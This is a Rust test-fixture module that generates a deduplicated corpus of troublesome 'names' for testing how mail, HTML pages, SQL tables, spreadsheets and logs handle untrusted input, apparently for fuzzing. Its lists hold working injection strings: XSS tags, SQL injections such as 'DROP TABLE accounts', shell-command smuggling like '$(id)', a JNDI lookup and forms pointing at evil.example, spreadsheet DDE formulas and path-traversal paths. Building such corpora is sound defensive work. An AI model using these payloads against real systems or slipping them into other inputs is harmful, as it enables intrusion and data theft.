//! Names that nobody has, those of a known list and others made by their kinds: each has once shaped a mail, a page, a table or a
//! log that trusted it.

/// A name, and what kind of trouble it is.
#[derive(Clone, Debug)]
pub struct Nasty {
    pub kind: &'static str,
    pub name: String,
}

/// The kind of those that stand in the Big List of Naughty Strings.
pub const LISTED: &str = "listed";

/// All of them, no two alike.
pub fn names() -> Vec<Nasty> {
    let mut names = Vec::new();
    let mut add = |kind: &'static str, name: String| names.push(Nasty { kind, name });

    for name in naughty_strings::BLNS {
        add(LISTED, (*name).to_owned());
    }
    // Marks that turn, join or hide what stands beside them.
    let bidi =
        "\u{61c}\u{200e}\u{200f}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}";
    for mark in bidi.chars() {
        add("bidi", format!("Anna{mark}Hughes"));
        add("bidi", format!("{mark}gpj.exe{mark}Anna"));
    }
    let hidden = "\u{ad}\u{34f}\u{115f}\u{1160}\u{17b4}\u{180e}\u{200b}\u{200c}\u{200d}\u{2060}\u{2061}\u{2064}\u{206a}\u{206f}\u{3164}\u{fe00}\u{feff}\u{ffa0}\u{fff9}\u{fffa}\u{fffb}\u{1d173}\u{e0001}\u{e0041}\u{e007f}\u{e0100}";
    for mark in hidden.chars() {
        add("hidden", format!("Wh{mark}itfield"));
        add("hidden", mark.to_string());
    }
    // Controls, and what begins a line.
    for code in (0..32).chain(127..160) {
        if let Some(control) = char::from_u32(code) {
            add("control", format!("Anna{control}Hughes"));
        }
    }
    for line in ["\r\n", "\n", "\r", "\u{85}", "\u{2028}", "\u{2029}", "\u{b}", "\u{c}"] {
        for header in ["Bcc: mallory@evil.example", "Subject: Free", "Content-Type: text/html", "", "."] {
            add("line", format!("Anna{line}{header}"));
        }
    }
    for header in [
        "%0d%0aBcc: mallory@evil.example",
        "\\r\\nBcc: mallory@evil.example",
        "=?utf-8?B?QmNjOg==?=",
        "=?utf-8?Q?=0ABcc:?=",
        "Anna <mallory@evil.example>",
        "mallory@evil.example, Anna",
        "\"Anna\" <mallory@evil.example>",
        "Anna;mallory@evil.example",
        "undisclosed-recipients:;",
        "(comment) Anna",
        "Anna\\",
    ] {
        add("mail", header.to_owned());
    }
    for tag in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)>",
        "'><svg/onload=alert(1)>",
        "</title><script>alert(1)</script>",
        "</p><h1>Anna</h1><p>",
        "<!-- Anna",
        "--><b>Anna",
        "<![CDATA[Anna]]>",
        "<a href=https://evil.example>Anna</a>",
        "<a href=javascript:alert(1)>Anna</a>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=0>",
        "<iframe src=//evil.example>",
        "<style>*{display:none}</style>",
        "<form action=//evil.example>",
        "<input autofocus onfocus=alert(1)>",
        "<math><mtext><img src onerror=alert(1)>",
        "<template><b>Anna</template>",
        "<plaintext>",
        "<xmp>",
        "<textarea>",
        "&lt;b&gt;Anna&lt;/b&gt;",
        "&#60;b&#62;Anna",
        "&#x3c;b&#x3e;Anna",
        "&amp;lt;b&amp;gt;",
        "&nbsp;",
        "&Anna",
        "\\u003cb\\u003eAnna",
        "%3Cb%3EAnna",
        "javascript:alert(1)",
        "data:text/html,<b>Anna",
        "\" onmouseover=\"alert(1)",
        "' onmouseover='alert(1)",
        "` onmouseover=`alert(1)",
        "＜b＞Anna＜/b＞",
        "<\u{ff53}cript>alert(1)</\u{ff53}cript>",
        "<b",
        "b>",
        "<>",
    ] {
        add("html", tag.to_owned());
    }
    for query in [
        "'; DROP TABLE accounts; --",
        "' OR '1'='1",
        "\" OR \"\"=\"",
        "1; SELECT 1",
        "') UNION SELECT 1 --",
        "' || '",
        "%",
        "_",
        "\\",
        "\\'",
        "''",
        "'",
        "\"",
        "`",
        "--",
        "/* Anna */",
        "#Anna",
        ";",
        "O'Neil",
        "x' AND 1=0 UNION SELECT password_hash FROM accounts --",
        "NEAR(a b)",
        "\"a\" OR b*",
        "a:b",
        "MATCH",
    ] {
        add("sql", query.to_owned());
    }
    for sign in ["=", "+", "-", "@", "\t=", "\r=", " =", "\u{a0}=", "'=", "＝", "＋", "－", "＠", "|", "%"]
    {
        for formula in ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"//evil.example\")", "SUM(A1:A9)"] {
            add("formula", format!("{sign}{formula}"));
        }
    }
    for formula in [
        "Anna,=1+1",
        "Anna;=1+1",
        "Anna\t=1+1",
        "\"=1+1",
        "\",\"=1+1",
        "Anna\";=1+1;\"",
        "DDE(\"cmd\";\"x\")",
        "sep=;",
    ] {
        add("formula", formula.to_owned());
    }
    for format in [
        "%s%s%s%n",
        "%d",
        "%x%x%x",
        "%1$s",
        "{0}",
        "{}",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "&& id",
        "${jndi:ldap://evil.example/a}",
        "{{constructor.constructor('alert(1)')()}}",
        "[[Anna]]",
        "*Anna*",
        "[Anna](https://evil.example)",
        "\\x41",
        "\\u0041",
        "@everyone",
        "::1",
        "../../etc/passwd",
        "..\\..\\windows",
        "C:\\con",
        "file:///etc/passwd",
        "/dev/null",
        "~",
        "https://evil.example/",
        "//evil.example",
        "www.evil.example",
    ] {
        add("format", format.to_owned());
    }
    for word in [
        "null",
        "NULL",
        "undefined",
        "NaN",
        "Infinity",
        "-Infinity",
        "true",
        "false",
        "None",
        "nil",
        "0",
        "-1",
        "1e309",
        "0x0",
        "1.0",
        "007",
        "1/0",
        "[object Object]",
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        "prototype",
        "arguments",
        "this",
        "[]",
        "{}",
        "\"\"",
        "''",
        "\\0",
        "2026-11-22",
        "1,000.00",
        "١٢٣",
        "१२३",
        "½",
        "Ⅷ",
    ] {
        add("word", word.to_owned());
    }
    for script in [
        "محمد عبد الله",
        "שרה כהן",
        "‏",
        "مرحبا=1",
        "Anna محمد Hughes",
        "(محمد)",
        "محمد1",
        "שָׁלוֹם",
        "﷽",
        "王小明",
        "佐藤花子",
        "김철수",
        "สมชาย ใจดี",
        "अनिता शर्मा",
        "Ἀλέξανδρος",
        "Ёлкина",
        "Łukasz Żółć",
        "Ðorđe",
        "İpek Işık",
        "ßtraße",
        "ŒuvreÆ",
        "ʻOkina",
        "O’Neil-Łuczak",
        "D'Arcy-Müller",
        "Nguyễn Thị Ánh",
        "Ⴀნნა",
        "ᎠᎾ",
        "ⵜⴰⵎⴰⵣⵉⵖⵜ",
        "𝔄𝔫𝔫𝔞",
        "Ａｎｎａ",
        "ᴬᴺᴺᴬ",
        "ɐuu∀",
    ] {
        add("script", script.to_owned());
    }
    // What looks like somebody else.
    for (from, to) in [
        ('i', 'і'),
        ('e', 'е'),
        ('l', '1'),
        ('l', 'I'),
        ('i', 'ı'),
        ('d', 'ԁ'),
        ('W', 'Ѡ'),
        ('t', 'τ'),
        ('h', 'һ'),
        ('f', 'ƒ'),
        ('i', '\u{1d5c2}'),
        ('e', 'ｅ'),
    ] {
        add("confusable", "Whitfield".replacen(from, &to.to_string(), 1));
    }
    for marks in [1, 5, 20, 50, 98] {
        add("combining", format!("A{}", "\u{301}".repeat(marks)));
        add("combining", format!("a{}", "\u{489}".repeat(marks)));
        add("combining", format!("A{}", "\u{336}\u{20dd}".repeat(marks / 2 + 1)));
    }
    add("combining", "\u{301}Anna".to_owned());
    add("combining", "\u{fe0f}Anna".to_owned());
    for emoji in [
        "💩",
        "👩🏽\u{200d}⚕\u{fe0f}",
        "👨\u{200d}👩\u{200d}👧",
        "🏳\u{fe0f}\u{200d}🌈",
        "🇬🇧",
        "🏴\u{e0067}\u{e0062}\u{e007f}",
        "1\u{fe0f}\u{20e3}",
        "☠\u{fe0f}",
        "❤",
        "🫥",
        "😀😀😀😀😀😀😀😀😀😀",
        "Anna 🦷",
    ] {
        add("emoji", emoji.to_owned());
    }
    for blank in [
        "", " ", "\u{a0}", "\u{1680}", "\u{2000}", "\u{2003}", "\u{2009}", "\u{200a}", "\u{202f}",
        "\u{205f}", "\u{3000}", "\u{2800}", "\t", " \u{a0} ",
    ] {
        add("blank", blank.to_owned());
        add("blank", format!("Anna{blank}{blank}Hughes "));
    }
    for (count, text) in [
        (99, "a"),
        (100, "b"),
        (101, "c"),
        (100, "W"),
        (100, "💩"),
        (100, "ж"),
        (50, "a "),
        (10_000, "d"),
        (100, "ﷺ"),
        (100, "﷽"),
    ] {
        add("long", text.repeat(count));
    }
    for code in
        [0xfffd, 0xfffe, 0xffff, 0x1fffe, 0x10ffff, 0xe000, 0xf8ff, 0xf0000, 0xfdd0, 0x212a, 0x2126, 0xfb01]
    {
        if let Some(symbol) = char::from_u32(code) {
            add("edge", format!("An{symbol}na"));
        }
    }
    let mut seen = std::collections::BTreeSet::new();
    names.retain(|nasty| seen.insert(nasty.name.clone()));
    names
}

/// Whether a name holds what moves or hides the text around it: controls, ends of lines, marks of direction, and marks that are
/// nothing but hidden instructions.
pub fn moves_text(name: &str) -> bool {
    name.chars().any(|symbol| {
        symbol.is_control()
            || matches!(
                symbol,
                '\u{61c}'
                    | '\u{180e}'
                    | '\u{200b}'..='\u{200f}'
                    | '\u{2028}'..='\u{202e}'
                    | '\u{2060}'..='\u{206f}'
                    | '\u{feff}'
                    | '\u{fff9}'..='\u{fffb}'
                    | '\u{e0000}'..='\u{e007f}'
            )
    })
}
